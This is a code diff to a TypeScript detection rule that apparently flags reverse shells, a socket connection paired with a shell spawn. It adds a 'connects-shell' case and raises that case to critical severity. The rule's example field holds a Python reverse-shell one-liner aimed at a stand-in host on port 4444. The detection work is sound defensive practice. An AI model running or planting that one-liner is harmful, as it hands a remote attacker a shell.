@@ -14,7 +14,7 @@ export interface PairCombination {
   readonly belong?: (first: Sighting, second: Sighting) => boolean;
   /** The one the finding points at. */
   readonly second: (sighting: Sighting) => boolean;
-  readonly severity: (second: Sighting) => Severity | undefined;
+  readonly severity: (second: Sighting, first: Sighting) => Severity | undefined;
   readonly message: (first: Sighting, second: Sighting) => string;
 }
 
@@ -61,9 +61,11 @@ export const PAIR_COMBINATIONS: readonly PairCombination[] = [
       example: 's.connect(("198.51.100.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("sh")',
       technique: 'T1059.004',
     },
-    first: isSocket,
+    first: (sighting) => isSocket(sighting) || sighting.behaviour === 'connects-shell',
     second: ({ behaviour, text }) => behaviour === 'starts-process' && SHELL.test(text ?? ''),
-    severity: ({ reach }) => (isUnasked(reach) ? 'CRITICAL' : 'HIGH'),
+    // What the shell is told comes from there, whoever called.
+    severity: ({ reach }, { behaviour }) =>
+      isUnasked(reach) || behaviour === 'connects-shell' ? 'CRITICAL' : 'HIGH',
     message: (_first, { name, reach }) => `${name} starts a shell beside a fixed connection ${WHEN[reach]}`,
   },
   {
